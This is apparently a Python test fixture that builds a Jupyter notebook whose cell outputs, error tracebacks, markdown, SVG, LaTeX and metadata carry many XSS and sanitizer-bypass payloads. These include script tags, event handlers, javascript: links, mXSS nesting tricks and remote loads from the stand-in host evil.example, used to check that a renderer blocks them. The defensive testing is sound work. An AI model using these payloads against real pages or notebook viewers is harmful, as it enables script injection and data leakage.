"""A lesson whose outputs try all that an output can try: to run, to ask another host, to mislead.

Each attempt that works writes its name into `window.ran`, or asks `evil.example`.
"""

from __future__ import annotations

import base64
import io
from typing import Any

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from PIL import Image

HOST = "evil.example"
CLAIM = "application/vnd.downhill.claim+json"
FIGURE = "application/vnd.downhill.figure+json"
DEMO = "application/vnd.downhill.demo+json"
EXERCISE = "application/vnd.downhill.exercise+json"


def attempts(place: str) -> str:
    """HTML with one attempt per line. place: what the names of those that work begin with."""

    def run(name: str) -> str:
        return f"window.ran.push('{place}: {name}')"

    far = f"https://{HOST}"
    return "\n".join(
        (
            f"<script>{run('script')}</script>",
            f"<script src='{far}/a.js'></script>",
            f'<img src=x onerror="{run("onerror")}">',
            f'<img src="{far}/a.png" srcset="{far}/b.png 2x" alt="far">',
            f'<a class="bait" href="javascript:{run("link")}">link</a>',
            f'<a class="bait" href=" java&#10;script:{run("link with a break")}">link</a>',
            f'<a class="bait" href="data:text/html,<script>{run("data link")}</script>">link</a>',
            f'<div class="bait" onclick="{run("onclick")}" onmouseover="{run("over")}">box</div>',
            f'<iframe src="{far}/f"></iframe>',
            f'<iframe srcdoc="<script>parent.{run("srcdoc")}</script>"></iframe>',
            f'<style>@import "{far}/s.css"; body {{ background: url({far}/bg.png) }}</style>',
            f'<p style="background: url({far}/p.png); position: fixed; inset: 0">over all</p>',
            f'<svg onload="{run("svg")}"><script>{run("svg script")}</script>'
            f'<a xlink:href="javascript:{run("svg link")}"><text>x</text></a>'
            f'<image href="{far}/i.png"/></svg>',
            f'<meta http-equiv="refresh" content="0; url={far}/">',
            f'<form action="{far}/form"><input autofocus onfocus="{run("focus")}">'
            f'<button class="bait">send</button></form>',
            f'<base href="{far}/">',
            f'<link rel="stylesheet" href="{far}/l.css">',
            f'<object data="{far}/o"></object><embed src="{far}/e">',
            f'<video src="{far}/v.mp4" poster="{far}/v.png" autoplay></video>',
            f'<details open ontoggle="{run("toggle")}"><summary>x</summary>y</details>',
            f'<math><mtext><table><mglyph><style><img src=x onerror="{run("math")}"></style>',
            f'</mglyph></table></mtext></math><noscript><p title="</noscript>'
            f'<img src=x onerror={run("noscript")}>"></p></noscript>',
            f'<p title="<!-- downhill:claims --><img src=x onerror={run("claims mark")}>">p</p>',
            f'<p title="<!-- downhill:status --><img src=x onerror={run("status mark")}>">p</p>',
            f'<p title="<table><img src=x onerror={run("table mark")}></table>">p</p>',
            f'<p title="<pre><span></span><code><img src=x onerror={run("code mark")}></code>'
            '</pre>">p</p>',
            f'<p title="<!-- &quot; \' onmouseover={run("comment")} x=&quot; -->" class="bait">'
            "p</p>",
            '<template><script src="x.js"></script></template><bdi data-nb="0">t</bdi>',
            '<div class="nb-place" data-nb="0"></div><input type="checkbox" id="__drawer">',
        )
    )


def picture() -> str:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 4), "teal").save(buffer, "PNG")
    return base64.b64encode(buffer.getvalue()).decode()


def shown(name: str, *bundles: dict[str, Any]) -> NotebookNode:
    cell = new_code_cell("attack()", id=name)
    cell.outputs = [new_output("display_data", data=bundle) for bundle in bundles]
    return cell


def hostile(notebook: NotebookNode) -> NotebookNode:
    """The given executed lesson with hostile cells after its last, and a hostile provenance."""
    error = new_code_cell("raise Attack", id="error", metadata={"tags": ["raises-exception"]})
    text = attempts("error")
    error.outputs = [new_output("error", ename=text, evalue=text, traceback=[f"\x1b[31m{text}"])]
    stream = new_code_cell("print(attack)", id="stream")
    stream.outputs = [new_output("stream", text=f"\x1b[1;31m{attempts('stream')}\x1b[0m\n")]
    markdown = (
        f"![far](https://{HOST}/m.png)\n"
        "[link](javascript:window.ran.push('markdown'))"
        "{: .bait onclick=window.ran.push(1) }\n\n"
        f"{attempts('markdown')}\n"
    )
    tex = (
        r"\href{javascript:window.ran.push('tex')}{x} \includegraphics{https://evil.example/t.png}"
    )
    claim = {"state": "held", "text": attempts("claim"), "measured": {attempts("name"): "<b>1"}}
    cells = [
        new_markdown_cell("## Hostile outputs", id="hostile"),
        shown("html", {"text/html": attempts("html"), "text/plain": "x"}),
        shown("table", {"text/html": f"<table><tr><td>{attempts('table')}</td></tr></table>"}),
        shown("markdown", {"text/markdown": markdown}),
        shown("svg", {"image/svg+xml": attempts("svg"), "text/plain": attempts("svg text")}),
        shown("latex", {"text/latex": f"$x < y$ {tex}".replace("$", "")}),
        shown("plain", {"text/plain": attempts("plain")}),
        shown("script", {"application/javascript": "window.ran.push('js')", "text/plain": "js"}),
        shown("claim", {CLAIM: claim}),
        shown("alt", {"image/png": picture(), FIGURE: {"alt": f"\"'>{attempts('alt')}"}}),
        shown(
            "demo",
            {
                DEMO: {
                    "demo": "still-life",
                    "alt": attempts("demo"),
                    "data": {"answer": attempts("demo data")},
                },
            },
        ),
        shown(
            "exercise", {EXERCISE: {"exercise": "<b>E1", "passed": False, "hint": attempts("h")}}
        ),
        error,
        stream,
    ]
    made = new_notebook(cells=[*notebook.cells, *cells], metadata=notebook.metadata)
    made.metadata.downhill["provenance"] |= {"device": attempts("device"), "commit": "<script>"}
    return made
